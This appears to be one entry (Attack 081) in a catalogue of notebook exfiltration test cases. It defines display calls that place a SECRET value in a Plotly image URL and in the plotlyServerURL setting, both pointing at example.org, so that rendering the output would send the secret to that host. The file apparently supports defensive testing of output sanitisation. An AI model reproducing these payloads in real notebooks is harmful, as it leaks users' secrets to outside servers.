"""Attack 081: plotly image"""

IDEA = "A picture by address in a Plotly figure, and a server in its settings."
SOURCE = "Plotly layout.images, config.plotlyServerURL"
WAY = "iopub/display_data/data"
CODE = """
display(
    {
        "application/vnd.plotly.v1+json": {
            "data": [],
            "layout": {"images": [{"source": "https://example.org/" + SECRET}]},
        },
        "text/plain": ".",
    },
    raw=True,
)
display(
    {
        "application/vnd.plotly.v1+json": {
            "data": [],
            "layout": {},
            "config": {"plotlyServerURL": "https://example.org/" + SECRET},
        }
    },
    raw=True,
)
"""
ABSENT = ["SECRET"]
